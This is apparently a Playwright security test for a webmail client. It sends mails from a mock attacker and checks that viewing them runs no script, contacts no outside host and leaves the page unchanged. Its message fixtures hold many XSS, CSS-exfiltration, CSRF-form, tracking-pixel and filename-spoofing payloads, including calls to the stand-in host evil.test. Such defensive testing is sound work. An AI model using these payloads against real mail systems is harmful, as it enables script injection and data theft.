// Mail from strangers, opened in a browser: nothing of it runs, is asked for, or changes the page around it.
import { assert, inbound, openPage, ready, rest, signIn, until, withBrowser, world } from "./support.mjs";

const base64 = (text) => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\r\n");
const word = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;

/** A message whose HTML is `html`, with these other parts. */
function message(subject, html, { from = "Mallory <mallory@evil.test>", parts = [] } = {}) {
    const all = [["Content-Type: text/html; charset=utf-8", html], ...parts];
    const body = all
        .map(([head, content]) => `--b\r\n${head}\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(content)}\r\n`)
        .join("");
    const fields = `From: ${from}\r\nTo: ${ready.inbox}\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n`;
    return `${fields}Content-Type: multipart/related; boundary=b\r\n\r\n${body}--b--\r\n`;
}

// What a script of a mail would do, wherever it could run.
const ACT =
    "for(const w of [self,parent,top])try{w.mailRan=1;w.document.title='taken'}catch{};alert(1);" +
    "fetch('http://evil.test/fetched');top.location='http://evil.test/top'";
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

const MAILS = [
    ["plain", message("plain", "<p>Hello.</p>")],
    [
        "scripts",
        message(
            "scripts",
            `
        <script>${ACT}</script><script src="http://evil.test/a.js"></script><script type=module>${ACT}</script>
        <img src=x onerror="${ACT}"><body onload="${ACT}" onfocus="${ACT}"><svg onload="${ACT}">
        <animate onbegin="${ACT}" attributeName=x></svg>
        <svg><script>${ACT}</script></svg><math><mtext><table><mglyph><style><!--</style>
        <img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">
        <details open ontoggle="${ACT}"><summary>s</summary></details><video src=x onerror="${ACT}"></video>
        <marquee onstart="${ACT}">m</marquee>
        <noscript><p title="</noscript><img src=x onerror='${ACT}'>"></noscript><template><script>${ACT}</script></template>
        <a id=js href="javascript:${ACT}">one</a> <a href="&#106;ava&#9;script:${ACT}">two</a>
        <a href="data:text/html,<script>${ACT}</script>">three</a>
        <a href="vbscript:x">four</a><xmp><script>${ACT}</script></xmp></iframe><script>${ACT}</script>`,
        ),
    ],
    [
        "styles",
        message(
            "styles",
            `
        <link rel=stylesheet href="http://evil.test/a.css"><link rel=prefetch href="http://evil.test/p">
        <link rel=dns-prefetch href="//evil.test"><link rel=preload as=image href="http://evil.test/l">
        <style>@import url(http://evil.test/b.css); @font-face{font-family:f;src:url(http://evil.test/f.woff)}
        body{background:url(http://evil.test/c);font-family:f}
        p::after{content:url(http://evil.test/d)} </style>
        <p style="background:url('http://evil.test/e');list-style:url(http://evil.test/g);
        position:fixed;inset:0;z-index:99999">covers</p>
        <div style="position:absolute;top:-9999px;left:0;width:9999px;height:9999px;background:red">out</div>
        <table background="http://evil.test/h"><tr><td background="http://evil.test/i">t</td></tr></table>
        <p style="background:\\75rl(http://evil.test/j);cursor:url(http://evil.test/k),auto">x</p>`,
        ),
    ],
    [
        "forms",
        message(
            "forms",
            `
        <form action="http://evil.test/form" method=post><input name=password autofocus>
        <button formaction="javascript:${ACT}">Sign in</button><input type=image src="http://evil.test/image"></form>
        <form action="${ready.http}/domains" method=post><input name=domain value=taken.test>
        <input type=submit value="Continue"></form>
        <input form=compose name=to value=taken><button form=list>Delete all</button><select><option>x</option></select>
        <textarea>x</textarea>`,
        ),
    ],
    [
        "frames",
        message(
            "frames",
            `
        <meta http-equiv=refresh content="0;url=http://evil.test/refresh">
        <meta http-equiv="Content-Security-Policy" content="default-src *"><base href="http://evil.test/" target=_top>
        <iframe src="http://evil.test/frame"></iframe><iframe srcdoc="<script>${ACT}</script>"></iframe>
        <iframe src="data:text/html,<script>${ACT}</script>"></iframe><frameset><frame src="http://evil.test/frameset"></frameset>
        <object data="http://evil.test/object"></object><object data="data:text/html,<script>${ACT}</script>"></object>
        <embed src="http://evil.test/embed"><applet code=x></applet><portal src="http://evil.test/portal"></portal>
        <audio src="http://evil.test/audio" autoplay></audio><video poster="http://evil.test/poster">
        <source src="http://evil.test/source"><track src="http://evil.test/track"></video>
        <a ping="http://evil.test/ping" href="http://shop.test/">shop</a><area href="javascript:${ACT}">`,
        ),
    ],
    [
        "images",
        message(
            "images",
            `
        <img src="http://evil.test/pixel.png" width=1 height=1><img srcset="http://evil.test/set.png 2x"><picture>
        <source srcset="http://evil.test/source.png"><img src="//evil.test/relative.png"></picture>
        <img src="cid:pixel@evil"><img src="cid:drawing@evil"><img src="cid:none">
        <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ACT}'/>">
        <img src="data:text/html,<script>${ACT}</script>"><img src="${ready.http}/sign-out">`,
            {
                parts: [
                    [
                        "Content-Type: image/png\r\nContent-ID: <pixel@evil>\r\nContent-Disposition: inline; filename=pixel.png",
                        Buffer.from(PNG, "base64"),
                    ],
                    [
                        "Content-Type: image/svg+xml\r\nContent-ID: <drawing@evil>",
                        `<svg xmlns="http://www.w3.org/2000/svg" onload="${ACT}"/>`,
                    ],
                ],
            },
        ),
    ],
    [
        "names",
        message(word("\u202einvoice</bdi></h1><script>alert(1)</script> \u2066names"), "<p>\u202eturned\u202c</p>", {
            from: `${word("\u202eknab</bdi><img src=x onerror=alert(1)>")} <mallory@evil.test>`,
            parts: [
                [
                    "Content-Type: text/html\r\nContent-Disposition: attachment; " +
                        "filename*=utf-8''%E2%80%AEgpj.%3Cscript%3Ealert(1)%3C%2Fscript%3E.html",
                    `<script>${ACT}</script>`,
                ],
            ],
        }),
    ],
];

/** The page without what is the mail's own: its names, its article, its ids, the links to its neighbours. */
const around = (page) =>
    page.evaluate(() => {
        const copy = document.documentElement.cloneNode(true);
        for (const own of copy.querySelectorAll("article, h1, title, .thread, main > .hint, .crumbs")) own.remove();
        for (const one of copy.querySelectorAll("input[name=csrf]")) one.remove();
        copy.querySelector("body").removeAttribute("hx-headers");
        for (const one of copy.querySelectorAll("[value], [action], [href]"))
            for (const name of ["value", "action", "href"])
                if (/(msg|thr)_/.test(one.getAttribute(name) ?? "")) one.removeAttribute(name);
        return copy.outerHTML.replace(/<span class="count">.*?<\/span><\/span>/g, "");
    });

await withBrowser(async (browser) => {
    for (const [, raw] of MAILS) await inbound(raw, ready.inbox, "mallory@evil.test");
    const emails = await until("the mails", async () => {
        const all = (await rest("GET", `/api/v1/emails?inbox=${ready.inbox_id}`)).data;
        return all.length === MAILS.length && all;
    });
    const { context, page, watched } = await openPage(browser);
    /** Nothing has run, and no other host was asked for anything. Playwright itself is not let into a frame without scripts. */
    const nothing = (what) => {
        const blocked = (text) => /^Blocked script execution|Content Security Policy/.test(text);
        assert.deepEqual(watched.dialogs, [], what);
        assert.deepEqual(
            watched.console.filter((text) => !blocked(text.replace(/^.*?: /, ""))),
            [],
            what,
        );
        assert.deepEqual(
            world.asked.filter(({ url }) => !url.startsWith("http://shop.test/")),
            [],
            what,
        );
    };
    await signIn(page, ready.token);
    const list = `/mail/${ready.inbox_id}`;
    await page.goto(list);
    assert.equal(await page.locator(".emails .link").count(), MAILS.length);
    assert.equal(await page.locator(".emails script, .emails img, .emails h1").count(), 0);
    nothing("the list");

    let ordinary;
    for (const [name] of MAILS) {
        const email = emails.find((one) => one.subject.includes(name));
        const url = `${ready.http}${list}/${email.id}?view=html`;
        await page.goto(url, { waitUntil: "load" });
        const frame = page.frames()[1];
        await frame.waitForLoadState("load");
        const title = await page.title();
        const before = await around(page);
        ordinary ??= before;
        assert.equal(before, ordinary, `${name}: the page around the frame is that of any mail`);
        assert.equal(frame.url(), `${ready.http}${list}/${email.id}/html`);
        assert.equal(frame.childFrames().length, 0, `${name}: a frame in the frame`);
        assert.equal(await page.locator("iframe").getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
        // Everything in it is clicked that can be clicked. Links open a window of another host, which is the reader's own doing.
        for (const one of await frame.locator("a[href], area, button, input, summary, form, img").all()) {
            const href = await one.getAttribute("href");
            if (href?.startsWith("http://shop.test/")) {
                const [popup] = await Promise.all([context.waitForEvent("page"), one.click({ force: true })]);
                assert.equal(await popup.evaluate(() => opener).catch(() => null), null, "the window has no way back");
                await popup.close();
                const visit = await until("the shop", () => world.asked.find(({ url }) => url === "http://shop.test/"));
                assert.equal(visit.headers.referer, undefined);
            } else {
                await one.dispatchEvent("click");
            }
        }
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
        await page.waitForLoadState("networkidle");
        nothing(name);
        assert.equal(page.url(), url, name);
        assert.equal(await page.title(), title, name);
        assert.equal(await around(page), before, `${name}: the page around the frame is as it was`);
        assert.equal(await page.evaluate(() => globalThis.mailRan), undefined, name);
        assert.equal(page.frames().length, 2, name);
        assert.equal(context.pages().length, 1, name);
        for (const view of ["text", "headers", "source"]) {
            await page.goto(`${ready.http}${list}/${email.id}?view=${view}`);
            assert.equal(
                await page.locator("article script, article img, article iframe, h1 script, h1 img").count(),
                0,
                `${name} ${view}`,
            );
            nothing(`${name} ${view}`);
        }
    }
    assert.deepEqual(
        (await rest("GET", "/api/v1/custom_domains")).map((one) => one.domain),
        [],
        "no form of a mail was sent",
    );

    // A name that turns text around stays in its place.
    const names = emails.find((one) => one.subject.includes("names"));
    await page.goto(`${list}/${names.id}`);
    assert.equal(await page.locator("h1 > bdi").count(), 1);
    assert.match(await page.locator(".attachments a").innerText(), /\[U\+202E\]gpj/);
    const [download] = await Promise.all([page.waitForEvent("download"), page.locator(".attachments a").click()]);
    assert.equal(await download.failure(), null);
    assert.equal(page.url(), `${ready.http}${list}/${names.id}`, "an attachment is saved, not shown");

    // Images of other hosts come when they are asked for, and they alone.
    const images = emails.find((one) => one.subject.includes("images"));
    const { asked } = world;
    asked.length = 0;
    for (const name of ["pixel", "relative"])
        world.pages.set(`http://evil.test/${name}.png`, ["image/png", Buffer.from(PNG, "base64")]);
    await page.goto(`${list}/${images.id}?view=html`);
    const own = page.frameLocator("iframe").locator("img[src^='data:image/png']");
    await own.waitFor({ state: "attached" });
    assert.equal((await own.boundingBox()).width, 1, "the image of the mail itself is shown");
    assert.deepEqual(asked, []);
    await page.getByRole("button", { name: "Load images" }).click();
    await until("the images", () => asked.some(({ url }) => url === "http://evil.test/pixel.png"));
    await page.waitForLoadState("networkidle");
    for (const { url, headers } of asked) {
        assert.ok(url.endsWith(".png"), url);
        assert.equal(headers.referer, undefined, "the host does not hear which page it is");
        assert.equal(headers.cookie, undefined);
    }
    await page.goto(`${list}/${images.id}?view=html`);
    await own.waitFor({ state: "attached" });
    const number = asked.length;
    await page.waitForLoadState("networkidle");
    assert.equal(asked.length, number, "asked for once");
    assert.deepEqual(watched.dialogs, []);
});
